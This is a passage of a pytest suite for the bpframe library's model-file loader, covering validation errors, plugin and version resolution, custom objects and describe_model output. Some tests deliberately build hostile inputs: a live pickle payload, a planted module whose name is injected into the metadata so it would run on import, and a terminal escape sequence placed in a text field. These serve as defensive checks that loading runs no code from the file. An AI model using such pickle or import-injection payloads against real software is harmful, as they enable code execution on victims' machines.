    edit_metadata(path, change)
    assert found in load_error(path)


def test_optimizer_state_without_its_record_or_of_the_wrong_shape(tmp_path):
    net = bp.Network([2, 2], "sigmoid", seed=0)
    net._model.optimizer = OptimizerState({"name": "adam"}, np.zeros((2, 6)), 3)
    path = save_network(net, tmp_path / "m.npz", include_optimizer=True)
    replace_member(path, "optimizer_state.npy", npy_bytes(np.zeros((2, 5))))
    assert "optimizer_state has dtype float64 and shape (2, 5), expected float64 and (2, 6)" in load_error(path)
    replace_member(path, "optimizer_state.npy", npy_bytes(np.full((1, 6), np.nan)))
    assert "optimizer_state has dtype float64 and shape (1, 6), expected float64 and (2, 6)" in load_error(path)
    edit_metadata(path, lambda m: m.update(optimizer=None))
    assert "it has an 'optimizer_state' entry but its metadata has no optimizer record" in load_error(path)
    edit_metadata(path, lambda m: m.update(optimizer={"config": {}, "step": -2, "rows": 2}))
    assert "invalid optimizer in the metadata: expected {'config': {...}, 'step': int >= 0, 'rows': int >= 0}" in (
        load_error(path)
    )
    edit_metadata(path, lambda m: m.update(optimizer={"config": {}, "step": 3}))
    assert "'step': int >= 0, 'rows': int >= 0}, got {'config': {}, 'step': 3}" in load_error(path)
    edit_metadata(path, lambda m: m.update(optimizer={"config": {}, "step": 3, "rows": 1}))
    assert "optimizer_state contains 6 non-finite value(s) (NaN or inf), the first at index (0, 0)" in load_error(path)


# -- loading never runs code from the file ---------------------------------------------------------------------------


@pytest.mark.parametrize("member", ["theta.npy", "metadata.npy", "optimizer_state.npy", "history.npy", "extra.npy"])
def test_pickled_object_is_refused_without_being_unpickled(saved_with_everything, tmp_path, member):
    _, path = saved_with_everything
    marker = tmp_path / "pwned"
    payload = npy_bytes(np.array([MarkerOnUnpickle(marker)], dtype=object), allow_pickle=True)
    # the payload is live: NumPy would run it if asked to unpickle
    probe = tmp_path / "probe.npz"
    write_members(probe, {"x.npy": payload})
    with np.load(probe, allow_pickle=True) as npz:
        npz["x"]
    assert marker.is_dir()
    marker.rmdir()
    replace_member(path, member, payload)
    message = load_error(path)
    assert not marker.exists()
    if member != "extra.npy":  # an unknown entry is refused by its name before it is read
        assert message == (
            f"{path}: the entry {member[:-4]!r} contains a pickled object; refusing to load it "
            "(bpframe files never contain pickles)"
        )


def test_names_in_the_file_are_never_imported(saved, tmp_path, monkeypatch):
    _, path = saved
    marker = tmp_path / "imported"
    (tmp_path / "evil_bpframe_module.py").write_text(f"import os\nos.mkdir({str(marker)!r})\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    evil = {"name": "evil_bpframe_module", "plugin": "evil_bpframe_module:plugin", "distribution": None,
            "version": None, "user-defined": False}  # fmt: skip
    edit_metadata(path, lambda m: m["activations"].__setitem__(0, evil))
    message = load_error(path)
    assert "layer 1's activation 'evil_bpframe_module' is not registered by any installed plugin" in message
    assert "it came from plugin 'evil_bpframe_module:plugin', not part of an installed distribution" in message
    assert not marker.exists() and "evil_bpframe_module" not in sys.modules


# -- names: plugins and user-defined objects -------------------------------------------------------------------------

CUBE_040 = FakeEntryPoint("cube", CubePlugin, "bpframe-cube", "0.4.0")
CUBE_050 = FakeEntryPoint("cube", CubePlugin, "bpframe-cube", "0.5.0")
ABSOLUTE = FakeEntryPoint("absolute", AbsolutePlugin, "bpframe-absolute", "2.1")


@pytest.fixture
def cube_model(tmp_path, use_registry):
    """A model saved while bpframe-cube 0.4.0 and bpframe-absolute 2.1 were installed."""
    use_registry(CUBE_040, ABSOLUTE)
    net = bp.Network([3, 4, 2], ["cube", "sigmoid"], "quadratic", seed=0)
    path = save_network(net, tmp_path / "cube.npz")
    assert read_metadata(path)["activations"][0] == {
        "name": "cube", "plugin": "cube", "distribution": "bpframe-cube", "version": "0.4.0", "user-defined": False,
    }  # fmt: skip
    return net, path


def test_missing_plugin_says_what_to_install(cube_model, use_registry):
    _, path = cube_model
    use_registry()
    assert load_error(path) == (
        f"{path}: layer 1's activation 'cube' is not registered by any installed plugin; when the model was saved "
        "it came from bpframe-cube 0.4.0 (plugin 'cube'). Install it with: pip install \"bpframe-cube==0.4.0\" "
        '(then bpframe.reload_plugins() in a running session), or pass custom_objects={"cube": '
        'bpframe.Activation("cube", ...)}'
    )


def test_missing_loss_plugin_says_what_to_install(tmp_path, use_registry):
    use_registry(ABSOLUTE)
    path = save_network(bp.Network([3, 2], "sigmoid", "absolute"), tmp_path / "m.npz")
    use_registry()
    message = load_error(path)
    assert "the loss 'absolute' is not registered by any installed plugin" in message
    assert 'pip install "bpframe-absolute==2.1"' in message
    assert 'custom_objects={"absolute": bpframe.Loss("absolute", ...)}' in message


def test_plugin_that_failed_to_load_is_reported(cube_model, use_registry):
    _, path = cube_model
    with pytest.warns(bp.PluginWarning):
        use_registry(FakeEntryPoint("cube", failing_import, "bpframe-cube", "0.4.0"))
    message = load_error(path)
    assert "it came from bpframe-cube 0.4.0 (plugin 'cube'), which is installed but was skipped" in message
    assert "ImportError: No module named 'bpframe_missing_dependency'" in message


def test_plugin_at_another_version_warns_and_loads(cube_model, use_registry):
    net, path = cube_model
    registry = use_registry(CUBE_050)
    with pytest.warns(bp.PluginWarning) as caught:
        loaded = load_network(path)
    assert [str(w.message) for w in caught] == [
        f"{path}: layer 1's activation 'cube' was saved with version 0.4.0 of bpframe-cube, but version 0.5.0 is "
        "installed; loading with the installed one, whose results may differ"
    ]
    assert caught[0].filename == __file__
    assert loaded.activations[0] is registry.activation("cube")
    assert loaded.parameters().tobytes() == net.parameters().tobytes()


def test_name_now_provided_by_another_distribution_warns(cube_model, use_registry):
    _, path = cube_model
    use_registry(FakeEntryPoint("cube", CubePlugin, "bpframe-cube-fork", "1.0"))
    with pytest.warns(bp.PluginWarning) as caught:
        load_network(path)
    assert [str(w.message) for w in caught] == [
        f"{path}: layer 1's activation 'cube' was saved with bpframe-cube 0.4.0, but it now comes from "
        "bpframe-cube-fork 1.0 (plugin 'cube'); loading with the installed one, whose results may differ"
    ]


def test_same_plugin_version_loads_without_warnings(cube_model):
    net, path = cube_model
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        loaded = load_network(path)
    X = np.random.default_rng(2).normal(size=(5, 3))
    assert loaded.feedforward(X).tobytes() == net.feedforward(X).tobytes()


def test_name_claimed_by_two_plugins_is_an_error(cube_model, use_registry):
    _, path = cube_model
    with pytest.warns(bp.PluginWarning):
        use_registry(CUBE_040, FakeEntryPoint("clash", CubeClashPlugin, "bpframe-clash", "1.0"))
    message = load_error(path)
    assert "layer 1's activation 'cube' cannot be resolved: activation 'cube' is registered by more than one" in message
    assert "bpframe-cube 0.4.0 (plugin 'cube') and bpframe-clash 1.0 (plugin 'clash')" in message


def test_user_defined_activation_needs_custom_objects(tmp_path):
    net = bp.Network([3, 4, 1], [softsign_activation(), "sigmoid"], "quadratic", seed=0)
    path = save_network(net, tmp_path / "m.npz")
    assert read_metadata(path)["activations"][0] == {
        "name": "softsign", "plugin": None, "distribution": None, "version": None, "user-defined": True,
    }  # fmt: skip
    assert load_error(path) == (
        f"{path}: layer 1's activation 'softsign' was defined in user code when the model was saved (no plugin "
        "registered it), so bpframe cannot recreate it; pass your definition when loading: "
        'custom_objects={"softsign": bpframe.Activation("softsign", ...)}'
    )
    mine = softsign_activation()
    loaded = load_network(path, custom_objects={"softsign": mine})
    assert loaded.activations[0] is mine
    X = np.random.default_rng(3).normal(size=(4, 3))
    assert loaded.feedforward(X).tobytes() == net.feedforward(X).tobytes()


def test_user_defined_name_now_registered_warns(tmp_path):
    own_tanh = bp.Activation("tanh", np.tanh, lambda z: 1.0 - np.tanh(z) ** 2)
    path = save_network(bp.Network([2, 2], own_tanh), tmp_path / "m.npz")
    with pytest.warns(bp.PluginWarning, match=r"'tanh' was defined in user code when the model was saved; loading the "
                      r"one bpframe \S+ \(plugin 'bpframe.default_plugins.activations'\) registers"):  # fmt: skip
        loaded = load_network(path)
    assert loaded.activations[0] is plugins.get_registry().activation("tanh")


def test_custom_objects_take_precedence_and_are_checked(saved):
    _, path = saved
    own_tanh = bp.Activation("tanh", np.tanh, lambda z: 1.0 - np.tanh(z) ** 2)
    assert load_network(path, custom_objects={"tanh": own_tanh}).activations[0] is own_tanh
    with pytest.raises(bp.ConfigurationError, match="custom_objects must be a dict of name"):
        load_network(path, custom_objects=[own_tanh])
    with pytest.raises(bp.ConfigurationError, match=r"custom_objects\['tanh'\] must be a bpframe.Activation or"):
        load_network(path, custom_objects={"tanh": np.tanh})
    with pytest.raises(bp.ConfigurationError, match=r"the key must be the object's name, 'tanh'"):
        load_network(path, custom_objects={"my_tanh": own_tanh})
    square = bp.Loss("tanh", lambda a, y: (a - y) ** 2, lambda a, y: 2 * (a - y))
    assert "layer 1's activation is 'tanh', but custom_objects['tanh'] is Loss('tanh'), not a bpframe.Activation" in (
        load_error(path, custom_objects={"tanh": square})
    )


def test_save_load_save_gives_the_same_metadata(saved, tmp_path):
    _, path = saved
    again = save_network(load_network(path), tmp_path / "again.npz")
    first, second = read_metadata(path), read_metadata(again)
    first.pop("created"), second.pop("created")
    assert first == second
    assert read_members(again)["theta.npy"] == read_members(path)["theta.npy"]


def test_metadata_is_human_readable_json(saved):
    _, path = saved
    text = read_members(path)["metadata.npy"]
    assert b'"format": "bpframe-model"' in text  # visible to `unzip -p m.npz metadata.npy`
    header, body = text.split(b"\n", 1)  # a .npy member: one header line, then the raw bytes
    assert header.startswith(b"\x93NUMPY") and json.loads(body.decode())["sizes"] == [2, 3, 1]


# -- describe_model -------------------------------------------------------------------------------------------------


def test_describe_model_summarises_a_checked_file(tmp_path):
    net = bp.Network([4, 5, 3], ["relu", "softmax"], "cross_entropy", seed=2)
    net.history = bp.History(epoch=[1, 2], cost=[0.5, 0.25], accuracy=[0.5, 0.75], seconds=[0.1, 0.2])
    net._model.optimizer = OptimizerState({"name": "adam"}, np.zeros((2, n_params([4, 5, 3]))), 10)
    path = save_network(net, tmp_path / "m.npz", include_optimizer=True)
    lines = describe_model(path).splitlines()
    assert lines[0].startswith(f"{path}: bpframe model, format 2, saved by bpframe {bp.__version__} at 20")
    assert lines[1:] == [
        "  sizes      [4, 5, 3] (43 parameters, float64)",
        f"  layer 1    relu (bpframe {bp.__version__} (plugin 'bpframe.default_plugins.activations'))",
        f"  layer 2    softmax (bpframe {bp.__version__} (plugin 'bpframe.default_plugins.activations'))",
        f"  loss       cross_entropy (bpframe {bp.__version__} (plugin 'bpframe.default_plugins.losses'))",
        "  seed       2",
        "  history    2 epochs; last: cost 0.25, accuracy 0.75, seconds 0.2",
        "  optimizer  adam, step 10, state 2 x 43",
    ]


def test_describe_model_flags_missing_plugins_and_escapes_text(cube_model, use_registry):
    _, path = cube_model
    edit_metadata(path, lambda m: m.update(created="\x1b[2Jnow"))
    use_registry()
    text = describe_model(path)
    assert "  layer 1    cube (bpframe-cube 0.4.0 (plugin 'cube'), NOT AVAILABLE NOW)" in text.splitlines()
    assert "\x1b" not in text and "at '\\x1b[2Jnow'" in text


def test_describe_model_shows_at_most_a_hundred_characters_of_a_text_field(saved):
    _, path = saved
    edit_metadata(path, lambda m: m.update(created="2025-" + "9" * 10**6))
    head = describe_model(path).splitlines()[0]
    assert head.endswith(f" at 2025-{'9' * 95}...")


def test_describe_model_checks_the_file(saved):
    _, path = saved
    edit_metadata(path, lambda m: m.update(sizes=[2, 4, 1]))
    with pytest.raises(bp.ModelFileError, match="theta has shape"):
        describe_model(path)
